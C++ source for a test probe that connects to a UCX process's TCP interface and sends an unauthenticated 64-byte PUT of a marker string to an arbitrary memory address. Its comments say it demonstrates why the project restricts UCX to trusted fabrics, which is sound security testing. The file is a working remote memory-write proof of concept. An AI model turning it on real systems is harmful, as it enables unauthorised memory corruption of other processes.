// A raw UCT TCP peer, as an attacker would write one: it connects to the TCP interface
// port of a UCX process (the port every UCX worker with the tcp transport listens on, next
// to the agent's own listener) and sends one PUT of 64 bytes (k_marker) to ADDRESS in that
// process, with no key: UCX 1.13's TCP transport copies it there
// (uct_tcp_ep_handle_put_req), whatever UCP features the process asked for. This is why
// dragonmem uses UCX only with DRAGONMEM_REMOTE_TRUSTED_FABRIC=1
// (lib/remote/agent_transports.hpp). remote_test.sh checks that the bytes land in a pool
// the agent has mapped, with no secret presented.
//   raw_put DEVICE HOST PORT ADDRESS   DEVICE: this host's network device to send from;
//                                      HOST (IPv4), PORT: the process's TCP interface
//   exit 1: the put completed (the peer acknowledged it); 0: it failed or did not complete
//   within 8 s; 2: the probe could not run (a UCX call failed).
#include <ucs/async/async_fwd.h>
#include <uct/api/uct.h>

#include <arpa/inet.h>

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

char k_marker[64] = "raw_put: written by a peer with no secret, over UCX TCP";

int fail(const char* what, ucs_status_t st) {
    std::printf("raw_put: %s: %s\n", what, ucs_status_string(st));
    return 2;
}

void on_done(uct_completion_t* /*self*/) {}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 5) {
        std::fprintf(stderr, "usage: raw_put DEVICE HOST PORT ADDRESS\n");
        return 2;
    }
    const std::string device = argv[1];
    in_addr host{};
    if (inet_pton(AF_INET, argv[2], &host) != 1) return fail("HOST is not an IPv4 address", UCS_ERR_INVALID_PARAM);
    const auto port = static_cast<std::uint16_t>(std::atoi(argv[3]));
    const std::uint64_t target = std::strtoull(argv[4], nullptr, 0);

    // The tcp memory domain and its resource on DEVICE.
    uct_component_h* components = nullptr;
    unsigned count = 0;
    if (ucs_status_t st = uct_query_components(&components, &count); st != UCS_OK) return fail("components", st);
    uct_component_h tcp = nullptr;
    for (unsigned i = 0; i < count && tcp == nullptr; ++i) {
        uct_component_attr_t attr{};
        attr.field_mask = UCT_COMPONENT_ATTR_FIELD_NAME;
        if (uct_component_query(components[i], &attr) == UCS_OK && std::strcmp(attr.name, "tcp") == 0)
            tcp = components[i];
    }
    if (tcp == nullptr) return fail("no tcp component", UCS_ERR_NO_DEVICE);
    uct_md_config_t* md_config = nullptr;
    if (ucs_status_t st = uct_md_config_read(tcp, nullptr, nullptr, &md_config); st != UCS_OK) return fail("md config", st);
    uct_md_h md = nullptr;
    if (ucs_status_t st = uct_md_open(tcp, "tcp", md_config, &md); st != UCS_OK) return fail("uct_md_open", st);
    uct_config_release(md_config);
    uct_tl_resource_desc_t* resources = nullptr;
    unsigned resource_count = 0;
    if (ucs_status_t st = uct_md_query_tl_resources(md, &resources, &resource_count); st != UCS_OK)
        return fail("resources", st);
    const uct_tl_resource_desc_t* resource = nullptr;
    for (unsigned i = 0; i < resource_count; ++i)
        if (device == resources[i].dev_name) resource = &resources[i];
    if (resource == nullptr) return fail("DEVICE is not a tcp resource", UCS_ERR_NO_DEVICE);

    ucs_async_context_t* async = nullptr;
    if (ucs_status_t st = ucs_async_context_create(UCS_ASYNC_MODE_THREAD_SPINLOCK, &async); st != UCS_OK)
        return fail("async", st);
    uct_worker_h worker = nullptr;
    if (ucs_status_t st = uct_worker_create(async, UCS_THREAD_MODE_SINGLE, &worker); st != UCS_OK)
        return fail("uct_worker_create", st);
    uct_iface_config_t* iface_config = nullptr;
    if (ucs_status_t st = uct_md_iface_config_read(md, "tcp", nullptr, nullptr, &iface_config); st != UCS_OK)
        return fail("iface config", st);
    uct_iface_params_t params{};
    params.field_mask = UCT_IFACE_PARAM_FIELD_OPEN_MODE | UCT_IFACE_PARAM_FIELD_DEVICE;
    params.open_mode = UCT_IFACE_OPEN_MODE_DEVICE;
    params.mode.device.tl_name = resource->tl_name;
    params.mode.device.dev_name = resource->dev_name;
    uct_iface_h iface = nullptr;
    if (ucs_status_t st = uct_iface_open(md, worker, &params, iface_config, &iface); st != UCS_OK)
        return fail("uct_iface_open", st);
    uct_config_release(iface_config);
    uct_iface_progress_enable(iface, UCT_PROGRESS_SEND | UCT_PROGRESS_RECV);
    uct_iface_attr_t iface_attr{};
    if (ucs_status_t st = uct_iface_query(iface, &iface_attr); st != UCS_OK) return fail("uct_iface_query", st);

    // The peer's addresses: our own device address (flags, family, in_addr) with its IPv4
    // address in place of ours, and its interface address (the port, network order).
    std::vector<std::uint8_t> device_address(iface_attr.device_addr_len);
    if (ucs_status_t st = uct_iface_get_device_address(iface, reinterpret_cast<uct_device_addr_t*>(device_address.data()));
        st != UCS_OK)
        return fail("device address", st);
    if (device_address.size() < 2 + sizeof host || device_address[1] != AF_INET)
        return fail("DEVICE has no IPv4 device address", UCS_ERR_UNSUPPORTED);
    std::memcpy(device_address.data() + 2, &host, sizeof host);
    const std::uint16_t port_be = htons(port);
    std::vector<std::uint8_t> iface_address(iface_attr.iface_addr_len);
    if (iface_address.size() < sizeof port_be) return fail("unexpected interface address", UCS_ERR_UNSUPPORTED);
    std::memcpy(iface_address.data(), &port_be, sizeof port_be);

    uct_ep_params_t ep_params{};
    ep_params.field_mask = UCT_EP_PARAM_FIELD_IFACE | UCT_EP_PARAM_FIELD_DEV_ADDR | UCT_EP_PARAM_FIELD_IFACE_ADDR;
    ep_params.iface = iface;
    ep_params.dev_addr = reinterpret_cast<const uct_device_addr_t*>(device_address.data());
    ep_params.iface_addr = reinterpret_cast<const uct_iface_addr_t*>(iface_address.data());
    uct_ep_h ep = nullptr;
    if (ucs_status_t st = uct_ep_create(&ep_params, &ep); st != UCS_OK) {
        std::printf("no put: connecting failed: %s\n", ucs_status_string(st));
        return 0;
    }

    // No key (TCP takes none) and no registration: the address is all the peer checks.
    uct_iov_t iov{};
    iov.buffer = k_marker;
    iov.length = sizeof k_marker;
    iov.memh = UCT_MEM_HANDLE_NULL;
    iov.count = 1;
    uct_completion_t done{};
    done.func = &on_done;
    done.count = 1;
    done.status = UCS_OK;
    const auto start = std::chrono::steady_clock::now();
    auto within = [&] { return std::chrono::steady_clock::now() - start < std::chrono::seconds(8); };
    ucs_status_t st = UCS_ERR_NO_RESOURCE;
    while (st == UCS_ERR_NO_RESOURCE && within()) {
        uct_worker_progress(worker);
        st = uct_ep_put_zcopy(ep, &iov, 1, target, 0, &done);
    }
    if (st == UCS_INPROGRESS) {
        while (done.count > 0 && within()) uct_worker_progress(worker);
        st = done.count > 0 ? UCS_ERR_TIMED_OUT : done.status;
    }
    if (st != UCS_OK) {
        std::printf("no put: %s\n", ucs_status_string(st));
        return 0;
    }
    std::printf("PUT completed: 64 bytes to %#llx ('%.48s')\n", static_cast<unsigned long long>(target), k_marker);
    return 1;  // the process exits with its UCX objects alive: the probe is done with them
}
